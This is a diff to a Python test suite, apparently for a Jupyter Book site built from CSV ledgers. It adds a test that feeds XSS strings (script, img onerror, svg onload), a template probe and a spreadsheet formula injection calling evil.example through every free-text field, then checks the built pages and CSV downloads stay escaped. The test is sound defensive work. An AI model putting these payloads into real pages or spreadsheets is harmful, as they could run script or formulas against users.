@@ -39,6 +39,7 @@ natural home, there); every one failed on main before the fix. The index, review
 | S8 | ``test_a_stop_signal_is_handed_on_to_the_enclosing_programs_handler`` |
 | T1 | ``CASES[sweep-long-missing-parent]`` |
 | V1 | ``test_the_median_peak_quarter_is_never_when_most_scenarios_need_no_money`` |
+| W1-W4 | ``test_hostile_ledger_text_reaches_every_built_page_escaped`` (slow: every free-text field, a site build) |
 | W2 | ``test_chart_json_cannot_leave_its_script_element`` |
 | W3 | ``test_csv_cells_that_a_spreadsheet_would_run_are_neutralised`` |
 | W4 | ``CASES[fact-quote-right-to-left-override]`` |
@@ -614,3 +615,76 @@ def test_deeply_nested_json_beside_an_output_is_named_or_cleared(tmp_path, monke
     result = CliRunner().invoke(main, ["run", "--notebooks", "concentration", "--no-site", "--force", "--out", "run"])
     assert result.exit_code == 2
     assert "--out run exists and is not a previous run (it has no list .runthenumbers-run" in result.output
+
+
+HOSTILE_TEXT = (
+    "P1<!--<script>",
+    "</script><img src=x onerror=window.__xss=1>",
+    '"><svg/onload=window.__xss=2>',
+    '=HYPERLINK("http://evil.example/?x=","CSV1")',
+    "{{ 7 * 7 }} {raw}`<b>raw</b>`",
+)
+# The free-text fields of the three ledgers (a fact's quote only where its source has no stored copy to match).
+HOSTILE_FIELDS = {
+    "facts.csv": ("locator", "note", "quote"),
+    "sources.csv": ("title", "publisher"),
+    "claims.csv": ("claim", "explanation", "tolerance_reason", "searched"),
+}
+
+
+@pytest.mark.slow
+def test_hostile_ledger_text_reaches_every_built_page_escaped(tmp_path):
+    """W1 to W4 (hostile review 3): each hostile string through every free-text field of the three ledgers,
+    then the site built from that ledger: no page holds the raw markup, no <script> element holds a '<',
+    the search index holds no tag, and no CSV download holds a cell a spreadsheet would run."""
+    import csv
+    import re
+
+    data = tmp_path / "data"
+    shutil.copytree(REPO_ROOT / "data", data)
+    copies = {p.stem for p in (data / "copies").glob("*.txt")}
+    for name, columns in HOSTILE_FIELDS.items():
+        with (data / name).open(newline="", encoding="utf-8") as handle:
+            rows = list(csv.DictReader(handle))
+        for index, row in enumerate(rows):
+            text = HOSTILE_TEXT[index % len(HOSTILE_TEXT)]
+            for column in columns:
+                if column == "quote" and row["source"] in copies:
+                    continue
+                if column == "searched" and not row[column]:
+                    continue
+                row[column] = f"{row[column][:40]} {text}" if row[column] else text
+        with (data / name).open("w", newline="", encoding="utf-8") as handle:
+            writer = csv.DictWriter(handle, fieldnames=list(rows[0]), lineterminator="\n")
+            writer.writeheader()
+            writer.writerows(rows)
+    out = tmp_path / "site"
+    result = subprocess.run(
+        [
+            str(Path(sys.executable).parent / "jupyter-book"),
+            "build",
+            str(REPO_ROOT),
+            "--path-output",
+            str(out),
+            "-n",
+            "--keep-going",
+        ],
+        env={**os.environ, "RUNTHENUMBERS_DATA": str(data)},
+        capture_output=True,
+        text=True,
+        timeout=900,
+    )
+    assert result.returncode == 0, result.stdout[-3000:] + result.stderr[-3000:]
+    html = out / "_build" / "html"
+    pages = [p for p in html.rglob("*.html") if "_static" not in p.parts]
+    assert len(pages) > 20
+    raw = ("<!--<script>", "<img src=x", "<svg/onload", "<b>raw</b>")
+    for page in pages:
+        text = page.read_text(encoding="utf-8")
+        assert not [r for r in raw if r in text], page
+        for script in re.findall(r"<script[^>]*>(.*?)</script>", text, re.S):
+            assert "<!--" not in script and "<script" not in script, page
+    assert "<script" not in (html / "searchindex.js").read_text(encoding="utf-8")
+    for download in html.rglob("*.csv"):
+        for row in csv.reader(download.open(encoding="utf-8")):
+            assert not [c for c in row if c.startswith(("=", "+", "@"))], download
